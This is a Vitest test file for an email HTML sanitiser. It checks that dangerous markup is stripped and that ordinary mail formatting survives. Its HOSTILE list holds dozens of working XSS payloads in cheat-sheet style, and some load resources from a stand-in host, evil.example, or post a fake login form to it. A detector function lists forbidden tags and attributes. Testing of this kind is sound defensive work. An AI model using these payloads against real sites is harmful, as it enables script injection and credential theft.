import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from './sanitize.ts';

const FORBIDDEN_TAGS = ['script', 'style', 'iframe', 'frame', 'object', 'embed', 'applet', 'svg', 'math', 'base', 'meta', 'link', 'form', 'input', 'button', 'textarea', 'select', 'template', 'noscript', 'video', 'audio', 'xmp'];

/** Everything that could run or load in the sanitised output, read back with a real DOM parser. */
function dangers(html: string): string[] {
  const { document } = parseHTML(`<!doctype html><html><body>${html}</body></html>`);
  const found: string[] = [];
  for (const el of Array.from(document.querySelectorAll('*')) as Element[]) {
    const tag = el.tagName.toLowerCase();
    if (FORBIDDEN_TAGS.includes(tag)) found.push(`<${tag}>`);
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      const value = attr.value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
      if (name.startsWith('on')) found.push(`${tag}[${name}]`);
      if (['srcdoc', 'formaction', 'action', 'background', 'srcset', 'xlink:href', 'poster'].includes(name)) found.push(`${tag}[${name}]`);
      if (/^(?:javascript|vbscript|livescript):/.test(value)) found.push(`${tag}[${name}=${value}]`);
      if (value.startsWith('data:') && !(tag === 'img' && name === 'src' && /^data:image\/(?:png|gif|jpe?g|webp|bmp);/.test(value))) found.push(`${tag}[${name}=data:]`);
      if (name === 'style' && /url\(|expression|behavior|binding|position|@import|\\/i.test(attr.value)) found.push(`${tag}[style=${attr.value}]`);
      if (name === 'src' && /^(?:https?:)?\/\//.test(value)) found.push(`${tag}[src] remote`);
    }
  }
  return found;
}

// OWASP XSS filter evasion cheat sheet style inputs, plus mXSS and mail-specific ones.
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
  '<img """><script>alert(1)</script>">',
  '<img src=`javascript:alert(1)`>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="behavior: url(x.htc)">x</div>',
  '<div style="-moz-binding: url(x.xml#xss)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">phish</div>',
  '<div style="background:u\\72l(https://evil.example/a.png)">x</div>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example/login"><input name=password><button formaction="javascript:alert(1)">Log ind</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<body onload=alert(1)>x</body>',
  '<table background="javascript:alert(1)"><tr><td background="https://t.example/bg.png">x</td></tr></table>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<div id="x" class="x" data-remote-src="javascript:alert(1)">x</div>',
  '<img data-remote-src="javascript:alert(1)">',
  '<img srcset="https://t.example/a.png 1x, javascript:alert(1) 2x">',
  '<video poster="javascript:alert(1)"><source src="x"></video>',
  '<a href="https://ok.example" target="_self" onclick="evil()" ping="https://t.example">ok</a>',
  '<!--<img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p <img src=x onerror=alert(1)>>',
  '<details open ontoggle=alert(1)>x</details>',
];

describe('sanitizeHtml: hostile input', () => {
  it.each(HOSTILE)('%s', (input) => {
    const { html } = sanitizeHtml(input);
    expect(dangers(html)).toEqual([]);
    expect(html).not.toMatch(/<script|javascript:|onerror|onload|<iframe|<style/i);
  });

  it('stays safe with remote images allowed', () => {
    for (const input of HOSTILE) {
      const { html } = sanitizeHtml(input, { allowRemoteImages: true });
      expect(dangers(html).filter((d) => !d.endsWith('remote'))).toEqual([]);
    }
  });
});

describe('sanitizeHtml: what mail needs', () => {
  it('keeps ordinary formatting, lists and tables', () => {
    const input = '<h2>Tilbud</h2><p>Kære <b>Mette</b>, <i>her</i> er <u>prisen</u>:</p><ul><li>Tag</li></ul><table border="1" cellpadding="4"><tr><th colspan="2">Pris</th></tr><tr><td>Tag</td><td align="right">100 kr.</td></tr></table><blockquote type="cite">Gammel</blockquote><font color="#ff0000" face="Arial">Rød</font>';
    expect(sanitizeHtml(input).html).toBe(input);
  });

  it('links open in a new tab without opener or referrer; relative links lose their href', () => {
    expect(sanitizeHtml('<a href="https://kunde.dk/tegning.pdf" target="_self">tegning</a>').html).toBe('<a href="https://kunde.dk/tegning.pdf" target="_blank" rel="noopener noreferrer nofollow">tegning</a>');
    expect(sanitizeHtml('<a href="mailto:mette@kunde.dk">mail</a>').html).toBe('<a href="mailto:mette@kunde.dk" target="_blank" rel="noopener noreferrer nofollow">mail</a>');
    expect(sanitizeHtml('<a href="/api/companies">x</a><a href="#top">y</a>').html).toBe('<a>x</a><a>y</a>');
  });

  it('reduces inline styles to safe properties', () => {
    const { html } = sanitizeHtml('<p style="color:#1F497D;font-family:&quot;Calibri&quot;,sans-serif;font-size:11.0pt;mso-fareast-language:DA;position:absolute;background:url(https://t.example/x.png);text-align:center;border-top:solid #E1E1E1 1.0pt;z-index:9">x</p>');
    expect(html).toBe('<p style="color:#1F497D;font-family:&quot;Calibri&quot;,sans-serif;font-size:11.0pt;text-align:center;border-top:solid #E1E1E1 1.0pt">x</p>');
    expect(sanitizeHtml('<span style="color: rgb(0, 0, 255); width: calc(100% - 10px)">x</span>').html).toBe('<span style="color:rgb(0, 0, 255);width:calc(100% - 10px)">x</span>');
  });

  it('holds remote images back and says so; cid: and data:image stay', () => {
    const input = '<p>Logo <img src="cid:logo@kunde.dk" alt="Logo"> <img src="https://t.example/pixel.gif?u=1" width="1" height="1" alt=""> <img src="//cdn.example/a.png" alt="A"> <img src="data:image/png;base64,iVBORw0KGgo=" alt="B"></p>';
    const blocked = sanitizeHtml(input);
    expect(blocked.hasRemoteImages).toBe(true);
    expect(blocked.html).toBe('<p>Logo <img alt="Logo" src="cid:logo@kunde.dk" /> <img width="1" height="1" alt="" data-remote-src="https://t.example/pixel.gif?u=1" /> <img alt="A" data-remote-src="https://cdn.example/a.png" /> <img alt="B" src="data:image/png;base64,iVBORw0KGgo=" /></p>');
    const allowed = sanitizeHtml(input, { allowRemoteImages: true });
    expect(allowed.hasRemoteImages).toBe(true);
    expect(allowed.html).toContain('<img width="1" height="1" alt="" src="https://t.example/pixel.gif?u=1" />');
  });

  it('reports remote CSS backgrounds and background attributes (which are dropped either way)', () => {
    expect(sanitizeHtml('<td background="https://t.example/bg.png">x</td>')).toEqual({ html: '<td>x</td>', hasRemoteImages: true });
    expect(sanitizeHtml('<div style="background-image:url(\'https://t.example/bg.png\')">x</div>')).toEqual({ html: '<div>x</div>', hasRemoteImages: true });
    expect(sanitizeHtml('<p>Ingen billeder</p>').hasRemoteImages).toBe(false);
  });

  it('keeps the markers of quoted history, drops other ids and classes', () => {
    const { html } = sanitizeHtml('<div class="gmail_quote other">q</div><div id="divRplyFwdMsg">h</div><div id="x_appendonsend"></div><p class="MsoNormal">m</p><div id="main" class="header">x</div>');
    expect(html).toBe('<div class="gmail_quote">q</div><div id="divRplyFwdMsg">h</div><div id="x_appendonsend"></div><p class="MsoNormal">m</p><div>x</div>');
  });

  it('keeps a body that an unclosed <head> would swallow', () => {
    expect(sanitizeHtml('<html><head><meta charset=utf-8><title>x</title><style>p{}</style><div>Hej</div></html>').html).toBe('<div>Hej</div>');
  });

  it('a whole Outlook document: head, styles and conditional comments go, the body stays', () => {
    const input = '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta http-equiv=Content-Type content="text/html; charset=utf-8"><title>Mail</title><style><!-- p.MsoNormal {margin:0cm} --></style><!--[if gte mso 9]><xml><o:shapedefaults v:ext="edit" spidmax="1026" /></xml><![endif]--></head><body lang=DA><div class=WordSection1><p class=MsoNormal>Hej Jens<o:p></o:p></p></div></body></html>';
    expect(sanitizeHtml(input).html).toBe('<div class="WordSection1"><p class="MsoNormal">Hej Jens</p></div>');
  });
});

describe('sanitizeHtml: hostile nesting', () => {
  it('HTML nested deeper than a browser would nest comes back as escaped text, fast', () => {
    const start = performance.now();
    const { html, hasRemoteImages } = sanitizeHtml(`${'<div>'.repeat(100_000)}<img src="https://t.example/x.gif" onerror="alert(1)">Hej <b>&lt;script&gt;</b>`);
    expect(performance.now() - start).toBeLessThan(2000);
    expect(html).toBe('<p>Hej &lt;script&gt;</p>');
    expect(hasRemoteImages).toBe(false);
  });
});

